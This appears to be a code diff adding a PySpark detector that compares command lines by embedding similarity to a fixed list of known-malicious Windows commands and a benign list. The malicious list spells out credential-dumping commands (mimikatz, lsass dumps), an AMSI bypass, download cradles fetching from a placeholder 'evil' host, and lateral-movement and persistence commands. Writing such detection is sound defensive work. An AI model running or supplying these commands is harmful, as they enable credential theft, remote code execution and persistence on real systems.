@@ -79,3 +79,82 @@ def _search(sent, k: int, schema: T.StructType):
                 yield pa.RecordBatch.from_arrays([pa.array(c, type=f.type) for c, f in zip(columns, arrow)], schema=arrow)
 
     return run
+
+
+#: Commands known to be bad with their family, and common benign ones.
+KNOWN_BAD = (
+    ("mimikatz.exe sekurlsa::logonpasswords", "credential-access"),
+    ("Invoke-Mimikatz -DumpCreds", "credential-access"),
+    ("procdump.exe -ma lsass.exe out.dmp", "credential-access"),
+    ("rundll32.exe comsvcs.dll, MiniDump 624 lsass.dmp full", "credential-access"),
+    ("lsadump::dcsync /user:krbtgt", "credential-access"),
+    ("[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')", "defense-evasion"),
+    ("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "defense-evasion"),
+    ("powershell -w hidden -ep bypass -c IEX(New-Object Net.WebClient)", "execution"),
+    ("IEX (New-Object Net.WebClient).DownloadString('http://evil/a.ps1')", "download-cradle"),
+    ("certutil.exe -urlcache -split -f http://evil/x.exe", "download-cradle"),
+    ("bitsadmin /transfer job http://evil/x.exe c:\\x.exe", "download-cradle"),
+    ("mshta.exe http://evil/a.hta", "proxy-execution"),
+    ("regsvr32 /s /i:http://evil/x.sct scrobj.dll", "proxy-execution"),
+    ('rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication"', "proxy-execution"),
+    ("wmic /node:victim process call create cmd.exe", "lateral-movement"),
+    ("psexec \\\\victim -s cmd.exe", "lateral-movement"),
+    ("schtasks /create /sc minute /tn evil /tr c:\\m.exe /ru system", "persistence"),
+    ("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\m.exe", "persistence"),
+)
+BENIGN = (
+    "ipconfig /all", "git status", "python3 manage.py runserver", "ping 8.8.8.8", "powershell Get-Process", "cmd /c dir C:\\temp", "whoami", "tasklist",
+    "net use Z: \\\\fileserver\\share", "curl https://api.internal/health", "robocopy C:\\a C:\\b /MIR", "code .", "explorer.exe", "sc query spooler",
+    "powershell Get-Service", "reg query HKLM\\Software",
+)
+#: Fixed value: similarity from which a command counts as like a known one.
+SIMILAR = 0.30
+
+
+def dense(sparse: DataFrame, dim: int = 256) -> DataFrame:
+    """(text, embedding) from sparse rows (text, idx, w); a text has at most dim of them."""
+    slots = F.map_from_entries(F.collect_list(F.struct("idx", "w")))
+    return sparse.groupBy("text").agg(slots.alias("m")).select("text", F.transform(F.sequence(F.lit(0), F.lit(dim - 1)), lambda i: F.coalesce(F.element_at("m", i), F.lit(0.0))).alias("embedding"))
+
+
+def known_bad(sparse: DataFrame, embed, k: int = 5) -> tuple[DataFrame, DataFrame]:
+    """Commands (sparse rows text, idx, w) against the two fixed lists, which are broadcast.
+
+    Returns the k nearest bad ones (text, rank, corpus_id, label, score), and per text the
+    greatest scores, whether it is like a bad one, its family and its novelty. embed: gives the
+    sparse rows of a table of texts.
+    """
+    spark = sparse.sparkSession
+    rows = [(i, t, label) for i, (t, label) in enumerate(KNOWN_BAD)] + [(len(KNOWN_BAD) + i, t, None) for i, t in enumerate(BENIGN)]
+    corpus = spark.createDataFrame(rows, "corpus_id int, text string, label string")
+    known = F.broadcast(corpus.join(embed(corpus), "text").select("corpus_id", "label", "idx", F.col("w").alias("c")))
+    met = sparse.join(known, "idx").groupBy("text", "corpus_id", "label").agg(F.sum(F.col("w") * F.col("c")).alias("score"))
+    texts = sparse.select("text").distinct()
+    each = F.inline(F.array(*(F.struct(F.lit(i).alias("corpus_id"), F.lit(label).cast("string").alias("label")) for i, _, label in rows)))
+    scores = texts.select("text", each).join(met.drop("label"), ["text", "corpus_id"], "left")
+    scores = scores.withColumn("score", F.round(F.coalesce("score", F.lit(0.0)), PLACES))
+    bad = scores.where("label is not null")
+    near = bad.withColumn("rank", F.row_number().over(W.partitionBy("text").orderBy(F.desc("score"), "corpus_id"))).where(F.col("rank") <= k)
+    per = scores.groupBy("text").agg(
+        F.max(F.when(F.col("label").isNotNull(), F.col("score"))).alias("bad_score"), F.max(F.when(F.col("label").isNull(), F.col("score"))).alias("benign_score"),
+        F.max_by("label", F.when(F.col("label").isNotNull(), F.struct("score", -F.col("corpus_id")))).alias("_label"),
+    )
+    per = per.withColumns({"like_bad": F.col("bad_score") >= SIMILAR, "family": F.when(F.col("bad_score") >= SIMILAR, F.col("_label")), "novelty": 1 - F.col("benign_score")})
+    return near.select("text", "rank", "corpus_id", "label", "score"), per.drop("_label")
+
+
+def fewshot(commands: DataFrame, feedback: DataFrame, out: DataFrame, embed, k: int = 3, least_trust: float = 0.9, least: float = 0.45) -> DataFrame:
+    """Per command (column commandline) its k most similar trusted, labelled feedback ids that
+    are not disputed (out: their ids): commandline, rank, id, label, corrected_severity, similarity.
+
+    Distinct commands of the feedback are the stored vectors, the commands the stated query set.
+    """
+    good = feedback.where((F.col("trust") >= least_trust) & F.col("label").isNotNull()).join(out.select("id"), "id", "left_anti")
+    good = good.groupBy("id").agg(F.min_by(F.struct("commandline", "label", "corrected_severity", "seq"), "seq").alias("f")).select("id", "f.*")
+    stored = dense(embed(good.select("commandline").distinct())).withColumnRenamed("text", "vec_id")
+    asked = dense(embed(commands.select("commandline").distinct())).select(F.concat(F.lit("?"), "text").alias("vec_id"), "embedding")
+    near = knn_dense(stored, asked, k).where(F.col("similarity") >= least)
+    found = near.select(F.expr("substr(query_id, 2)").alias("command"), F.col("neighbour_id").alias("commandline"), "similarity").join(good, "commandline")
+    order = W.partitionBy("command").orderBy(F.desc("similarity"), "seq")
+    ranked = found.withColumn("rank", F.row_number().over(order)).where(F.col("rank") <= k)
+    return ranked.select(F.col("command").alias("commandline"), "rank", "id", "label", "corrected_severity", "similarity")
